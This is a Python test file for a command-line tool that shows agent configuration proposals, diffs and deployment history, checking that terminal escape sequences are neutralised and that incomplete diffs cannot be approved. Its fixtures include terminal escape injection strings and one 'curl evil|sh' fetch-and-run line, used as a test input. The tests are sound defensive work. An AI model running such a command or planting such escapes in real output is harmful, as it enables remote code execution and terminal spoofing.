"""Proposals and deployments in words: the summary on top, the difference below, nothing that steers a terminal."""

import pytest

from hivectl import history, proposals
from hivectl.verdicts import check_whole
from protocol.approvals import (
    NOT_WHOLE,
    Approval,
    CapabilityChange,
    Deployment,
    DeploymentKind,
    DeploymentState,
    DiffLine,
    FileDiff,
    LogEntry,
    Proposal,
    ProposalKind,
    ProposalPage,
    ProposalState,
    Ref,
)
from protocol.configuration import FilePage
from protocol.privd import Cage, Power
from protocol.problem import Problem, Refused
from protocol.settings import AgentSettings

COMMIT, BASE = "a" * 40, "b" * 40
CHANGES = (
    CapabilityChange("egress", None, "*.example.org", notable=True),
    CapabilityChange("model", "haiku", "sonnet\x1b[2J", notable=False),
    CapabilityChange("icon", "Y", None, notable=False),
)
DIFF = FileDiff(
    "agent.toml",
    20,
    31,
    (
        DiffLine(" ", 1, 1, "runner = 1"),
        DiffLine("-", 2, None, "old\x1b[31m"),
        DiffLine("+", None, 2, "new"),
        DiffLine(" ", 9, 9, "far"),
    ),
    cut=True,
)


def row(state: ProposalState = ProposalState.OPEN, **more: object) -> Proposal:
    given = {"description": "why\x07\nand why", "capabilities": CHANGES} | more
    return Proposal(
        "iris",
        3,
        ProposalKind.CONFIG,
        state,
        COMMIT,
        "c" * 40,
        BASE,
        "manager",
        proposed_ms=0,
        expires_ms=9,
        **given,  # type: ignore[arg-type]  # what a test varies
    )


def page(**more: object) -> ProposalPage:
    return ProposalPage(row(**more), BASE, (DIFF,), "{}", "d" * 64, "12345678")  # type: ignore[arg-type]  # what a test varies


def test_the_summary_stands_above_the_difference_and_the_code_below() -> None:
    text = proposals.shown(page(), proposals.painter(coloured=False))
    order = [
        "proposal 3 of iris: config, open",
        "  | why\\x07",
        "  ! egress: *.example.org (new)",
        "    model: haiku → sonnet\\x1b[2J",
        "    icon: not any more (was Y)",
        "@@ agent.toml (20 → 31 bytes)",
        " runner = 1",
        "-old\\x1b[31m",
        "+new",
        "  …",
        " far",
        "  … more than is shown here",
        "code 12345678",
    ]
    places = [text.index(f"\n{line}" if at else line) for at, line in enumerate(order)]
    assert places == sorted(places)
    assert "\x1b" not in text


def test_colours_are_the_only_escapes_and_only_where_they_are_wanted() -> None:
    lines = proposals.shown(page(), proposals.painter(coloured=True)).splitlines()
    assert "\x1b[32m+new\x1b[0m" in lines
    assert "\x1b[31m-old\\x1b[31m\x1b[0m" in lines
    assert "\x1b[33m  ! egress: *.example.org (new)\x1b[0m" in lines
    assert " runner = 1" in lines


def test_a_base_that_moved_and_no_change_of_powers_are_said() -> None:
    moved = ProposalPage(row(capabilities=()), COMMIT, (), "{}", "d" * 64, "12345678")
    text = proposals.shown(moved, proposals.painter(coloured=False))
    assert f"! since then {COMMIT} was deployed" in text
    assert "It changes nothing in what the agent may or has." in text
    ended = proposals.shown(
        ProposalPage(row(ProposalState.DENIED, reason="no\x9b"), None, (), "", "", ""),
        proposals.painter(coloured=False),
    )
    assert "reason: no\\x9b" in ended
    assert "code" not in ended


def test_what_could_not_be_shown_whole_is_said_and_not_approved() -> None:
    half = ProposalPage(row(), BASE, (DIFF,), "", "", "")
    text = proposals.shown(half, proposals.painter(coloured=False))
    assert text.endswith(f"\n! {NOT_WHOLE}")
    with pytest.raises(Refused, match="it cannot be approved") as refused:
        check_whole(half)
    assert refused.value.problem is Problem.LIMIT
    check_whole(page())
    assert NOT_WHOLE not in proposals.shown(page(), proposals.painter(coloured=False))


def test_a_long_line_is_printed_to_its_end() -> None:
    line = DiffLine("+", None, 1, "x" * 100_000 + "curl evil|sh")
    assert proposals.files_diff((FileDiff("a", None, 9, (line,)),)).endswith("x" * 99_999 + "curl evil|sh")


def test_files_that_come_and_go() -> None:
    files = (FileDiff("new.md", None, 5, ()), FileDiff("old.md", 7, None, ()))
    assert proposals.files_diff(files).splitlines() == [
        "@@ new.md (new, 5 bytes)",
        "@@ old.md (removed, it had 7 bytes)",
    ]
    assert proposals.files_diff(()) == "no difference"


def test_rows() -> None:
    assert proposals.proposals(()) == "no proposal waits"
    heads, line = proposals.proposals((row(),)).splitlines()
    assert heads.split() == ["AGENT", "NUMBER", "KIND", "STATE", "COMMIT", "BY", "AGE", "DESCRIPTION"]
    assert line.split()[:6] == ["iris", "3", "config", "open", COMMIT[:12], "manager"]
    assert proposals.proposal(row(ProposalState.DENIED, reason="no")) == "proposal 3 of iris is denied: no"
    made = Deployment(
        "iris", 4, DeploymentKind.ROLLBACK, DeploymentState.RETURNED, COMMIT, 0, 0, 1, of=2, detail="dead"
    )
    assert "rollback to 2  returned" in proposals.deployments((made,))
    assert proposals.deployment(made) == "deployment 4 of iris is returned (dead)"
    assert proposals.waiting_lines((row(),)) == ["? proposal 3 of iris (config) waits for you: `show iris 3`"]


def test_what_an_approval_came_to() -> None:
    made = Deployment("iris", 3, DeploymentKind.CONFIG, DeploymentState.WAITING, COMMIT, 0, 0)
    whole = proposals.approved(Approval(row(ProposalState.APPROVED), made))
    assert whole.startswith("deployment 3 of iris is waiting; `")
    assert whole == proposals.begun(made)
    half = Approval(row(approvals=("anna",)), None)
    assert (
        proposals.approved(half) == "proposal 3 of iris is open: anna approved it, and another key must agree"
    )
    assert "  approved by anna; another key must agree" in proposals.shown(
        page(approvals=("anna",)), proposals.painter(coloured=False)
    )


def test_the_record() -> None:
    assert history.refs(()) == "nothing is recorded"
    assert history.refs((Ref("main", COMMIT, ""),)).splitlines()[1].split() == ["main", COMMIT]
    assert history.commits(()) == "nothing was deployed yet"
    assert history.commits((LogEntry(COMMIT, 0, "Begin\x1b", ("deployed/1",)),)).endswith(
        "Begin\\x1b  [deployed/1]"
    )
    assert history.content(FilePage("a", b"one\ntwo\xff\x1b\n")) == "one\ntwo\\xff\\x1b"


def test_drafts_are_what_has_no_cage_yet() -> None:
    cages = [
        Cage(name, power, 0, "nspawn", 1, 2, AgentSettings(name))
        for name, power in (("iris", Power.RUNNING), ("nova", Power.DRAFT))
    ]
    assert [each.agent for each in proposals.only_drafts(cages)] == ["nova"]
    assert proposals.drafts(proposals.only_drafts(cages)).splitlines()[1].split()[0] == "nova"
    assert "propose NAME init" in proposals.drafts(())
